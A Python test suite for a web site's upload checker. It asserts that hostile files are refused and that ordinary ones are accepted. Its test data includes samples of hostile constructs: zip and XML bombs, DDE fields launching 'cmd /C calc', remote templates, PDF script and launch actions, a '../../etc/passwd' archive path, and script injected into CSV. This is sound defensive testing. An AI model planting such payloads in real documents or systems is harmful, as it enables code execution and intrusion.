"""Hostile files are refused with the right reason; the files that people really have are taken."""

import io
import random
import time
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from lacare_site.intake import file_types, office_files, pictures
from lacare_site.intake import refusals as why
from lacare_site.intake.signatures import TEST_VIRUS
from tests.intake import sample_files as files

DTD = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><a>&lol;</a>'
TEMPLATE = (
    b'<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="https://host.example/x.dotm" TargetMode="External"/></Relationships>'
)
LINK = TEMPLATE.replace(b"attachedTemplate", b"hyperlink")
SINGLE_QUOTES = TEMPLATE.replace(b'"', b"'")
UTF_16 = ('<?xml version="1.0" encoding="UTF-16"?>' + TEMPLATE.decode()).encode("utf-16")
ENTITIES = TEMPLATE.replace(b"External", b"&#69;xternal").replace(b"/attached", b"&#x2F;attached")
MACRO_TYPE = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
SHEET_TYPE = MACRO_TYPE.replace(b"vnd.ms-word.document.macroEnabled.main", b"vnd.ms-excel.macros&#104;eet")
MHT = TEMPLATE.replace(b"attachedTemplate", b"aFChunk").replace(b' TargetMode="External"', b"")
SERVER = '<x:externalLink xmlns:x="x"><x:ddeLink ddeService="cmd" ddeTopic="/C calc"/></x:externalLink>'


def field(*codes: str, kind: str = "instrText") -> bytes:
    """A field of Word whose code stands in several runs; "{" and "}" begin and end one inside it."""
    marks = {"{": "begin", "|": "separate", "}": "end"}
    runs = [f'<w:fldChar w:fldCharType="{marks[code]}"/>' if code in marks else f"<w:{kind}>{code}</w:{kind}>" for code in codes]
    return f'<w:document xmlns:w="w">{"".join(f"<w:r>{run}</w:r>" for run in runs)}</w:document>'.encode()


SIMPLE = b'<w:p xmlns:w="w"><w:fldSimple w:instr=" &#68;DE cmd "/></w:p>'
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><script>alert(1)</script></html>"


def with_pages(sizes) -> bytes:
    target = io.BytesIO()
    first, *others = [Image.new("1", size) for size in sizes]
    first.save(target, "TIFF", save_all=True, append_images=others)
    return target.getvalue()


MACRO_INSIDE = files.office("docx", {"word/vbaProject.bin": b"x"})
TYPE_INSIDE = files.office("docx", {"[Content_Types].xml": MACRO_TYPE})
NOISE = random.Random(1).randbytes(500)
CHANGED = files.office("docx", {"word/media/a.png": NOISE}).replace(NOISE[200:210], bytes(10))
HOSTILE = {
    "zip bomb": ("docx", files.office("docx", {"word/media/x.bin": bytes(50_000_000)}), why.UNPACKS_TOO_LARGE),
    "zip bomb of many parts": (
        *("xlsx", files.office("xlsx", {f"xl/{number}.xml": b"x" * 1_000_000 for number in range(320)}), why.UNPACKS_TOO_LARGE),
    ),
    "overlapping parts": ("docx", files.overlapping_archive(), why.UNPACKS_TOO_LARGE),
    "XML bomb": ("docx", files.office("docx", {"word/styles.xml": DTD}), why.HAS_PROGRAM),
    "XML bomb in UTF-16": ("docx", files.office("docx", {"word/styles.xml": DTD.decode().encode("utf-16")}), why.HAS_PROGRAM),
    "macro": ("docx", files.office("docx", {"word/vbaProject.bin": b"x"}), why.HAS_PROGRAM),
    "macro by its type": ("docx", files.office("docx", {"[Content_Types].xml": MACRO_TYPE}), why.HAS_PROGRAM),
    "macro sheet": ("xlsx", files.office("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"}), why.HAS_PROGRAM),
    "macro sheet by its type": ("xlsx", files.office("xlsx", {"[Content_Types].xml": SHEET_TYPE}), why.HAS_PROGRAM),
    "DDE in a workbook": ("xlsx", files.office("xlsx", {"xl/externalLinks/externalLink1.xml": SERVER.encode()}), why.HAS_PROGRAM),
    "DDE in UTF-16": ("xlsx", files.office("xlsx", {"xl/foo/a.xml": SERVER.encode("utf-16")}), why.HAS_PROGRAM),
    "DDE in a field": ("docx", files.office("docx", {"word/document.xml": field("{", " DDEAUTO cmd", "}")}), why.HAS_PROGRAM),
    "DDE in several runs": (
        "docx",
        files.office("docx", {"word/header1.xml": field("{", " D", "de", " cmd", "|", "x", "}")}),
        why.HAS_PROGRAM,
    ),
    "DDE behind a field": (
        *("docx", files.office("docx", {"word/a.dat": field("{", "PAGE", "|", "}", "{", "DDE x", "|", "}")}), why.HAS_PROGRAM),
    ),
    "DDE made by a field": (
        "docx",
        files.office("docx", {"word/document.xml": field("{", "{", "QUOTE 68 68 69", "}", "}")}),
        why.HAS_PROGRAM,
    ),
    "DDE ended by a field": (
        *("docx", files.office("docx", {"word/a.xml": field("{", "D", "{", "QUOTE 68 69", "}", " cmd", "}")}), why.HAS_PROGRAM),
    ),
    "DDE in a simple field": ("docx", files.office("docx", {"word/document.xml": SIMPLE}), why.HAS_PROGRAM),
    "DDE in a document inside": (
        *(
            "docx",
            files.office("docx", {"word/embeddings/a.xlsx": files.office("xlsx", {"xl/a.xml": SERVER.encode()})}),
            why.HAS_PROGRAM,
        ),
    ),
    "page of the web as part of the text": ("docx", files.office("docx", {"word/_rels/document.xml.rels": MHT}), why.HAS_PROGRAM),
    "page of the web inside": ("docx", files.office("docx", {"word/page.mht": b"x"}), why.HAS_PROGRAM),
    "object inside": ("pptx", files.office("pptx", {"ppt/embeddings/oleObject1.bin": b"x"}), why.HAS_PROGRAM),
    "program inside": ("docx", files.office("docx", {"word/media/run.exe": b"MZ"}), why.HAS_PROGRAM),
    "template from elsewhere": ("docx", files.office("docx", {"word/_rels/settings.xml.rels": TEMPLATE}), why.HAS_PROGRAM),
    "template in single quotes": (
        *("docx", files.office("docx", {"word/_rels/settings.xml.rels": SINGLE_QUOTES}), why.HAS_PROGRAM),
    ),
    "template in UTF-16": ("docx", files.office("docx", {"word/_rels/settings.xml.rels": UTF_16}), why.HAS_PROGRAM),
    "template in entities": ("docx", files.office("docx", {"word/_rels/settings.xml.RELS": ENTITIES}), why.HAS_PROGRAM),
    "relations that nobody can read": ("docx", files.office("docx", {"word/_rels/a.xml.rels": LINK[:-9]}), why.DAMAGED),
    "macro document inside": ("docx", files.office("docx", {"word/embeddings/Doc1.docm": files.office("docx")}), why.HAS_PROGRAM),
    "binary workbook inside": ("pptx", files.office("pptx", {"ppt/embeddings/Book1.xlsb": b"x"}), why.HAS_PROGRAM),
    "binary object inside": ("docx", files.office("docx", {"word/embeddings/object1.bin": b"x"}), why.HAS_PROGRAM),
    "macro in a document inside": ("docx", files.office("docx", {"word/embeddings/Doc1.docx": MACRO_INSIDE}), why.HAS_PROGRAM),
    "macro by its type in a document inside": ("docx", files.office("docx", {"word/data/1": TYPE_INSIDE}), why.HAS_PROGRAM),
    "path in an archive": ("docx", files.office("docx", {"../../etc/passwd": b"x"}), why.MORE_THAN_ONE_FILE),
    "other office type": ("docx", files.office("xlsx"), why.WRONG_CONTENT),
    "archive": ("xlsx", files.archive(), why.WRONG_CONTENT),
    "old office": ("docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), why.WRONG_CONTENT),
    "office with a password": (
        *("xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"), why.LOCKED),
    ),
    "truncated archive": ("docx", files.office("docx")[:-30], why.DAMAGED),
    "archive with a changed byte": ("docx", CHANGED, why.DAMAGED),
    "archive behind a PDF": ("pdf", files.PDF + files.archive(), why.MORE_THAN_ONE_FILE),
    "archive in a PDF": ("pdf", files.PDF[:-6] + files.archive()[:-2] + b"\x06\0\n%%EOF", why.MORE_THAN_ONE_FILE),
    "PDF with a script": ("pdf", files.PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(x)>>"), why.HAS_PROGRAM),
    "PDF with an escaped script": ("pdf", files.PDF.replace(b"/Catalog", b"/Catalog/A<</S/J#61vaScript>>"), why.HAS_PROGRAM),
    "PDF that starts a program": ("pdf", files.PDF.replace(b"/Catalog", b"/Catalog/A<</S/Launch>>"), why.HAS_PROGRAM),
    **{
        f"PDF with {name}": (
            "pdf",
            files.PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/%b/F(\\\\\\\\host\\\\x)>>" % name),
            why.HAS_PROGRAM,
        )
        for name in (b"SubmitForm", b"ImportData", b"GoToR", b"GoToE")
    },
    "PDF with a password": ("pdf", files.PDF.replace(b"trailer<<", b"trailer<</Encrypt 9 0 R"), why.LOCKED),
    "truncated PDF": ("pdf", files.PDF[:-30], why.DAMAGED),
    "HTML before a PDF": ("pdf", HTML + files.PDF, why.WRONG_CONTENT),
    "HTML as PDF": ("pdf", HTML, why.WRONG_CONTENT),
    "HTML as CSV": ("csv", b"\n " + HTML, why.WRONG_CONTENT),
    "script in CSV": ("csv", b"name\n<script src=//host.example>\n", why.WRONG_CONTENT),
    "SVG as PNG": ("png", SVG, why.WRONG_CONTENT),
    "SVG as CSV": ("csv", SVG, why.WRONG_CONTENT),
    "PDF as CSV": ("csv", files.PDF, why.WRONG_CONTENT),
    "bytes as CSV": ("csv", bytes(range(256)), why.WRONG_CONTENT),
    "program as picture": ("jpg", b"MZ" + bytes(500), why.WRONG_CONTENT),
    "picture of another type": ("png", files.picture("JPEG"), why.WRONG_CONTENT),
    "archive behind a PNG": ("png", files.picture("PNG") + files.archive(), why.MORE_THAN_ONE_FILE),
    "archive behind a JPEG": ("jpg", files.picture("JPEG") + files.archive(), why.MORE_THAN_ONE_FILE),
    "archive behind a JPEG that calls itself a phone's": (
        *("jpg", files.picture("JPEG") + files.archive() + files.phone_trailer()[-32:], why.MORE_THAN_ONE_FILE),
    ),
    "archive in a phone's trailer": ("jpg", files.picture("JPEG") + files.phone_trailer(files.archive()), why.MORE_THAN_ONE_FILE),
    "torn trailer of a phone": ("jpg", files.picture("JPEG") + files.phone_trailer()[3:], why.MORE_THAN_ONE_FILE),
    "archive behind a TIFF": ("tif", files.picture("TIFF") + files.archive(), why.MORE_THAN_ONE_FILE),
    "truncated PNG": ("png", files.picture("PNG")[:-20], why.DAMAGED),
    "truncated JPEG": ("jpg", files.picture("JPEG", 300, 300)[:-200], why.DAMAGED),
    "truncated TIFF": ("tif", files.picture("TIFF", 300, 300)[:-200], why.DAMAGED),
    "head of a JPEG alone": ("jpg", b"\xff\xd8\xff\xd9", why.DAMAGED),
    "pixel flood": ("png", files.png_of_size(60_000, 60_000), why.TOO_MANY_PIXELS),
    "pixel flood in TIFF": ("tif", with_pages([(20_000, 20_000)]), why.TOO_MANY_PIXELS),
    "picture of no size": ("png", files.png_of_size(0, 100), why.DAMAGED),
    "endless TIFF": ("tif", b"II*\0\x08\0\0\0" + b"\0\0\x08\0\0\0", why.DAMAGED),
    "test virus": ("csv", TEST_VIRUS, why.INFECTED),
    "test virus in a PDF": ("pdf", files.PDF.replace(b"endobj\n2", b"endobj\n%" + TEST_VIRUS + b"\n2"), why.INFECTED),
    "test virus in an archive": ("docx", files.office("docx", {"word/media/a.bin": b"x" * 65_500 + TEST_VIRUS}), why.INFECTED),
    "other ending": ("svg", SVG, why.WRONG_EXTENSION),
    "no ending": ("", b"x", why.WRONG_EXTENSION),
}


@pytest.mark.parametrize(("extension", "content", "reason"), HOSTILE.values(), ids=HOSTILE)
def test_hostile_files_are_refused(extension, content, reason):
    with pytest.raises(why.Unfit) as refusal:
        file_types.check(content, extension)
    assert refusal.value.reason == reason
    assert refusal.value.sentence


@pytest.mark.parametrize("name", files.GOOD)
def test_files_that_people_have_are_taken(name):
    extension = name.rpartition(".")[2].lower()
    assert file_types.check(files.GOOD[name], extension) == file_types.TYPES[extension]


def test_a_chart_with_its_figures_is_taken():
    parts = {"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": files.workbook(), "ppt/_rels/a.xml.rels": LINK}
    assert file_types.check(files.office("pptx", parts), "pptx") == file_types.TYPES["pptx"]


@pytest.mark.parametrize(
    ("limit", "name", "content"),
    [
        ("LARGEST_UNPACKED", "word/embeddings/1.docx", files.office("docx", {"a.xml": b"x" * 900_000})),
        ("LARGEST_READ", "word/header1.xml", field(*"{PAGE|}", "x" * 900_000)),
    ],
)
def test_what_is_read_of_documents_inside_and_of_fields_has_an_end(monkeypatch, limit, name, content):
    whole = files.office("docx", {name: content, name.replace("1", "2"): content})
    assert file_types.check(whole, "docx")
    budget = office_files._Budget
    monkeypatch.setattr(office_files, "_Budget", lambda: budget(**{limit.rpartition("_")[2].lower(): 1_000_000}))
    with pytest.raises(why.Unfit) as refusal:
        file_types.check(whole, "docx")
    assert refusal.value.reason == why.UNPACKS_TOO_LARGE


def test_a_letter_with_fields_is_taken():
    toc = field(
        "{", 'TOC \\o "1-3"', "|", "{", "HYPERLINK x DDE", "|", "}", "}", "{", "DDEX", "}", "{", "IF ", "{", "PAGE", "}", "}"
    )
    parts = {"word/document.xml": toc, "word/comments.xml": b"<w:t>DDEAUTO, ddeLink and instrText</w:t>".replace(b"w:", b"")}
    assert file_types.check(files.office("docx", parts), "docx")
    assert file_types.check(files.PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"), "pdf")


def test_a_fax_of_many_pages_is_taken():
    assert file_types.check(with_pages([(1700, 2200)] * 40), "tif") == "image/tiff"


@given(st.sampled_from(sorted(files.GOOD)), st.data())
def test_nothing_makes_a_check_fail_otherwise_than_by_a_reason(name, data):
    """Bytes changed and cut at any place: taken, or refused with a reason; never an error."""
    content = bytearray(files.GOOD[name])
    for _ in range(data.draw(st.integers(1, 4))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    content = bytes(content[: data.draw(st.integers(1, len(content)))])
    try:
        file_types.check(content, name.rpartition(".")[2].lower())
    except why.Unfit as refusal:
        assert refusal.reason in why.SENTENCES


MB = 1024 * 1024
SLOW = {
    "PDF of half-begun names": ("pdf", b"%PDF-" + b"/J#61vaScrip" * (2 * MB) + b"startxref 1\n%%EOF"),
    "PNG of empty chunks": ("png", files.png_of_size(1, 1)[:33] + b"\0\0\0\0tEXt\xb9\x1a\x1b\x1f" * (2 * MB)),
    "JPEG of markers": ("jpg", b"\xff\xd8\xff" + b"\xe0\0\2\xff" * (6 * MB)),
    "JPEG of pictures": ("jpg", files.picture("JPEG", 8, 8) * 30_000),
    "CSV of brackets": ("csv", b"x" + b"<  " * (8 * MB)),
    "relations without an end": ("docx", files.office("docx", {"word/_rels/a.rels": b'<x TargetMode="External" ' * (2 * MB)})),
    "TIFF of one directory again and again": (
        "tif",
        b"II*\0\x08\0\0\0" + b"\xff\xff" + b"\x11\1\4\0\xff\xff\xff\0\x08\0\0\0" * 100_000,
    ),
}


@pytest.mark.parametrize(("extension", "content"), SLOW.values(), ids=SLOW)
def test_no_file_keeps_a_process_busy(extension, content):
    started = time.process_time()
    with pytest.raises(why.Unfit):
        file_types.check(content[: 25 * MB], extension)
        raise why.Unfit(why.EMPTY)  # what is taken must be quick, too
    assert time.process_time() - started < 4


def test_a_large_file_is_judged_quickly():
    noise = random.Random(1).randbytes(20 * MB)
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("x", noise)
    started = time.process_time()
    file_types.check(files.PDF.replace(b"endobj\n2", b"endobj\n%" + noise + b"\n2"), "pdf")
    file_types.check(files.office("docx", {"word/media/a.png": noise}), "docx")
    assert time.process_time() - started < 4
    assert pictures.MOST_PIXELS >= 9933 * 7016  # a page of A3 at 600 dots an inch
